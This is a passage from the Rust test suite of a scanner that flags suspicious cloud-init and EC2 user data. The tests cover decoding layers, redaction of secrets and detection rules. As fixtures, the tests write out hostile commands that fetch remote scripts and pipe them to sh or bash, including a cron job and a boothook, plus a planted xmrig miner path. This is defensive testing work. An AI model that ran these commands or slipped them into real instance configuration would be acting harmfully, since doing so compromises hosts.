            [(
                "user-data",
                "curl http://198.51.100.4/s | sh",
                &Why::DownloadExecute
            )]
        );
        // EC2's API form: base64 of gzip, wrapped at 76 columns.
        let b64 = B64.encode(&gz);
        let wrapped: Vec<&str> = b64
            .as_bytes()
            .chunks(76)
            .map(|c| std::str::from_utf8(c).unwrap())
            .collect();
        let r = inspect_user_data(wrapped.join("\n").as_bytes());
        assert_eq!(r.layers, [Layer::Base64, Layer::Gzip]);
        assert_eq!(r.findings.len(), 1);
        // A gzip bomb is cut off, not inflated.
        let bomb = gzip(&vec![b'a'; (MAX_INFLATED + 10) as usize]);
        let r = inspect_user_data(&bomb);
        assert!(r.findings.is_empty());
        assert_eq!(r.problems.len(), 1, "{:?}", r.problems);
        assert!(r.problems[0].contains("inflated"), "{:?}", r.problems);
        // Plain words that happen to be base64 are not decoded.
        let r = inspect_user_data(b"echohelloworld");
        assert!(r.layers.is_empty());
        assert_eq!(r.parts[0].kind, PartKind::Unmarked);
    }

    #[test]
    fn ordinary_cloud_config_has_no_findings() {
        let cc = "#cloud-config\n\
            package_update: true\n\
            packages:\n  - nginx\n  - curl\n  - [docker.io, '24.0']\n\
            users:\n  - name: deploy\n    sudo: ALL=(ALL) NOPASSWD:ALL\n    ssh_authorized_keys: [ssh-ed25519 AAAAC3Nza deploy@example]\n\
            write_files:\n  - path: /etc/nginx/conf.d/app.conf\n    content: |\n      server { listen 80; }\n\
            \x20 - path: /usr/local/bin/hello\n    permissions: '0755'\n    content: |\n      #!/bin/sh\n      echo hello\n\
            bootcmd:\n  - echo 10.0.0.5 db.internal >> /etc/hosts\n\
            runcmd:\n  - apt-get update\n  - apt-get install -y curl jq\n  - [ systemctl, enable, --now, nginx ]\n  - systemctl restart nginx\n\
            \x20 - curl -s http://169.254.169.254/latest/meta-data/instance-id > /etc/iid\n\
            \x20 - pip install --upgrade awscli\n";
        let r = inspect_user_data(cc.as_bytes());
        assert_eq!(r.findings, []);
        assert_eq!(r.problems, Vec::<String>::new());
        assert_eq!(r.parts.len(), 1);
    }

    #[test]
    fn secrets_are_redacted_in_findings() {
        let line = "curl -H \"Authorization: Bearer s3cr3tT0k\" https://admin:hunter2@repo.example.com/setup.sh?token=abc123&x=1 | bash -s -- --password hunter3 AKIAIOSFODNN7EXAMPLE";
        let r = inspect_user_data(format!("#!/bin/sh\n{line}\n").as_bytes());
        assert_eq!(r.findings.len(), 1);
        assert_eq!(
            r.findings[0].line,
            "curl -H \"Authorization: Bearer [REDACTED]\" https://admin:[REDACTED]@repo.example.com/setup.sh?token=[REDACTED]&x=1 | bash -s -- --password [REDACTED] AKIA[REDACTED]"
        );
        assert_eq!(
            redact("echo passwd: 'p w' PASSWORD=x aws_secret_access_key=wJalr secret:abc ghp_abcdefghijklmnopqrstuvwxyz0123456789"),
            "echo passwd: '[REDACTED]' PASSWORD=[REDACTED] aws_secret_access_key=[REDACTED] secret:[REDACTED] ghp_[REDACTED]"
        );
        // Nothing secret: unchanged.
        assert_eq!(
            redact("wget https://example.com/a.sh -O /tmp/a"),
            "wget https://example.com/a.sh -O /tmp/a"
        );
    }

    #[test]
    fn write_files_are_decoded_and_read_when_they_run() {
        let script = "#!/bin/sh\ncurl http://198.51.100.5/p | sh\n";
        let gzb64 = B64.encode(gzip(script.as_bytes()));
        let cc = format!(
            "#cloud-config\nwrite_files:\n\
             - path: /usr/local/bin/boot.sh\n  encoding: gz+b64\n  permissions: '0755'\n  content: {gzb64}\n\
             - path: /etc/cron.d/job\n  encoding: b64\n  content: {}\n\
             - path: /etc/motd\n  content: 'curl http://198.51.100.6/x | sh'\n\
             - path: /opt/tool\n  source:\n    uri: https://198.51.100.7/tool\n\
             - path: /opt/bad\n  encoding: b64\n  content: '!!!'\n\
             - path: /opt/xmrig\n  content: ''\n",
            B64.encode("* * * * * root wget -q -O- http://198.51.100.8/c | bash\n")
        );
        let r = inspect_user_data(cc.as_bytes());
        assert_eq!(
            whys(&r),
            [
                (
                    "write_files /usr/local/bin/boot.sh",
                    "curl http://198.51.100.5/p | sh",
                    &Why::DownloadExecute
                ),
                (
                    "write_files /etc/cron.d/job",
                    "* * * * * root wget -q -O- http://198.51.100.8/c | bash",
                    &Why::DownloadExecute
                ),
                (
                    "write_files /opt/tool",
                    "write_files /opt/tool source: https://198.51.100.7/tool",
                    &dl("cloud-init write_files")
                ),
                (
                    "write_files /opt/xmrig",
                    "write_files path: /opt/xmrig",
                    &Why::SuspiciousBinary {
                        name: "xmrig".into()
                    }
                ),
            ]
        );
        assert_eq!(
            r.problems,
            ["write_files /opt/bad: invalid base64 content (encoding b64)"]
        );
    }

    #[test]
    fn chmod_of_a_file_fetched_in_an_earlier_command() {
        let cc = "#cloud-config\nruncmd:\n  - curl -o /opt/agent https://198.51.100.9/agent\n  - chmod 755 /opt/agent\n  - chmod 644 /etc/other\n  - [ /opt/agent, --start ]\n";
        let r = inspect_user_data(cc.as_bytes());
        assert_eq!(
            whys(&r),
            [
                (
                    "runcmd[0]",
                    "curl -o /opt/agent https://198.51.100.9/agent",
                    &dl("curl")
                ),
                ("runcmd[1]", "chmod 755 /opt/agent", &Why::ChmodFetched),
            ]
        );
    }

    #[test]
    fn include_boothook_and_startup_script_url() {
        let r = inspect_user_data(
            b"#include-once\n# comment\nhttps://user:pw@198.51.100.10/ud.txt\n\n",
        );
        assert_eq!(r.parts[0].kind, PartKind::Include { once: true });
        assert_eq!(
            whys(&r),
            [(
                "user-data",
                "https://user:[REDACTED]@198.51.100.10/ud.txt",
                &Why::IncludeUrl
            )]
        );
        let r = inspect_user_data(
            b"#cloud-boothook\n#!/bin/sh\nwget -q http://198.51.100.11/hook -O- | sh\n",
        );
        assert_eq!(r.parts[0].kind, PartKind::Boothook);
        assert_eq!(r.findings[0].why, Why::DownloadExecute);
        let f = startup_script_url_finding(" gs://bucket/boot.sh ");
        assert_eq!(f.line, "gs://bucket/boot.sh");
        assert_eq!(f.why, Why::StartupScriptUrl);
    }

    #[test]
    fn lexer_reads_quotes_substitutions_and_redirections() {
        let toks = lex("a 'b c' \"d $(e f) g\" 2>&1 > out | h; `k`");
        let words: Vec<String> = toks
            .iter()
            .map(|t| match t {
                Tok::Word(w) => w.text.clone(),
                Tok::Sep => ";".into(),
                Tok::Pipe => "|".into(),
                Tok::Redir(r) => r.clone(),
            })
            .collect();
        assert_eq!(
            words,
            ["a", "b c", "d $(e f) g", ">", "out", "|", "h", ";", ""]
        );
        let Tok::Word(w) = &toks[2] else { panic!() };
        assert_eq!(w.subs, ["e f"]);
        assert_eq!(logical_lines("a \\\n  b\n# c\n\nd"), ["a    b", "d"]);
        assert!(
            is_exec_mode("0755")
                && is_exec_mode("493")
                && is_exec_mode("u+x")
                && !is_exec_mode("0644")
        );
    }

    fn stream(data: &str) -> (Vec<Event>, DecodeStats) {
        crate::test_support::stream_bytes("mem", data.as_bytes().to_vec())
    }

    #[test]
    fn describe_instance_attribute_output() {
        // As the AWS CLI prints it: pretty JSON.
        let doc = format!(
            "{{\n    \"InstanceId\": \"i-0ABC123\",\n    \"UserData\": {{\n        \"Value\": \"{}\"\n    }}\n}}\n",
            B64.encode("#!/bin/bash\necho hi\n")
        );
        let (ev, st) = stream(&doc);
        assert_eq!(ev.len(), 1, "{st:?}");
        assert_eq!(ev[0].time, Ts(0));
        assert_eq!(ev[0].source.format, Format::UserData);
        assert_eq!(
            ev[0].kind,
            EventKind::UserData(UserDataSeen {
                instance_id: Some("i-0abc123".into()),
                content: "#!/bin/bash\necho hi\n".into(),
                origin: "aws ec2 describe-instance-attribute".into()
            })
        );
        let ctx = RecordCtx {
            path: Arc::from("t"),
            line: 1,
        };
        let mut out = Vec::new();
        decode_json(r#"{"InstanceId":"i-1","UserData":{}}"#, &ctx, &mut out).unwrap();
        assert!(out.is_empty());
        assert_eq!(
            decode_json(r#"{"InstanceId":"i-1"}"#, &ctx, &mut out),
            Err(DecodeError::Missing("UserData"))
        );
        // Gzip content stays base64 for inspect_user_data to unwrap.
        let gz = B64.encode(gzip(b"#!/bin/sh\n"));
        decode_json(
            &format!(r#"{{"InstanceId":"i-2","UserData":{{"Value":"{gz}"}}}}"#),
            &ctx,
            &mut out,
        )
        .unwrap();
        let EventKind::UserData(u) = &out[0].kind else {
            panic!()
        };
        assert_eq!(u.content, gz);
        assert_eq!(
            inspect_user_data(u.content.as_bytes()).layers,
            [Layer::Base64, Layer::Gzip]
        );
    }

    #[test]
    fn user_data_files() {
        let s = seen_from_file(
            "/var/lib/cloud/instances/i-0abc/user-data.txt",
            b"#cloud-config\n",
        );
        assert_eq!(s.instance_id.as_deref(), Some("i-0abc"));
        assert_eq!(s.content, "#cloud-config\n");
        let s = seen_from_file("ud.bin", &[0x1f, 0x8b, 0xff]);
        assert_eq!((s.instance_id, s.content.as_str()), (None, "H4v/"));
    }

    #[test]
    fn shared_samples() {
        let Some(dir) = crate::test_support::samples("cloud-init/user-data") else {
            return;
        };
        let read = |name: &str| inspect_user_data(&std::fs::read(dir.join(name)).unwrap());
        let r = read("cloud-config-run-cmds.txt");
        assert_eq!(
            whys(&r),
            [(
                "runcmd[5]",
                "wcurl http://slashdot.org -O /run/mydir/index.html",
                &dl("wcurl")
            )]
        );
        assert_eq!(read("cloud-config-boot-cmds.txt").findings, []);
        let r = read("include.txt");
        assert_eq!(r.findings.len(), 2);
        assert!(r.findings.iter().all(|f| f.why == Why::IncludeUrl));
        assert!(r.findings[0]
            .line
            .ends_with("/doc/examples/cloud-config-run-cmds.txt"));
        let r = read("cloud-config-archive.txt");
        assert_eq!(r.findings, []);
        let kinds: Vec<&PartKind> = r.parts.iter().map(|p| &p.kind).collect();
        assert_eq!(
            kinds,
            [
                &PartKind::CloudConfigArchive,
                &PartKind::Unmarked,
                &PartKind::Unmarked,
                &PartKind::Unmarked,
                &PartKind::CloudConfig
            ]
        );
        let r = read("filter_cloud_multipart_2.email");
        assert_eq!(r.findings, []);
        let places: Vec<&str> = r.parts.iter().map(|p| p.place.as_str()).collect();
        assert_eq!(
            places,
            [
                "user-data",
                "part 1 (text/cloud-config)",
                "part 2 (text/plain)",
                "part 2 (text/plain) archive[0]",
                "part 3 (text/plain)"
            ]
        );
        // The example truncates one base64 payload ("…"); the gzip one decodes to a
        // harmless script.
        let r = read("cloud-config-write-files.txt");
        assert_eq!(r.findings, []);
        assert_eq!(
            r.problems,
            ["write_files /etc/sysconfig/selinux: invalid base64 content (encoding b64)"]
        );
    }

    /// The user data of `tests/fixtures/user-data/` (the fuzz target's seeds, written
    /// for pullwatch) is read whole: every file yields a download-and-execute finding,
    /// nothing is left unread, and the secrets in it never reach a finding.
    #[test]
    fn fixture_files() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/user-data");
        let mut names: Vec<_> = std::fs::read_dir(&dir)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        names.sort();
        assert_eq!(names.len(), 6);
        for path in names {
            let r = inspect_user_data(&std::fs::read(&path).unwrap());
            let name = path.file_name().unwrap().to_string_lossy();
            assert_eq!(r.problems, Vec::<String>::new(), "{name}");
            assert!(
                r.findings.iter().any(|f| f.why == Why::DownloadExecute),
                "{name}: {:?}",
                r.findings
            );
            for f in &r.findings {
                assert!(
                    !f.line.contains("tok_0123") && !f.line.contains("abc.def"),
                    "{name}: {}",
                    f.line
                );
            }
            if name == "gzip-base64.txt" {
                assert_eq!(r.layers, [Layer::Base64, Layer::Gzip]);
            }
        }
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(300))]
        /// Hostile user data never panics, whatever its quoting or nesting.
        #[test]
        fn never_panics(s in "(#!|#cloud-config\n|Content-Type: multipart/mixed; boundary=b\n\n--b\n)?[ -~\n\t'\"$()`|;&<>\\\\é]{0,200}") {
            let r = inspect_user_data(s.as_bytes());
            proptest::prop_assert!(r.findings.iter().all(|f| f.line.chars().count() <= MAX_LINE_CHARS + 1));
            let _ = redact(&s);
        }
    }
}
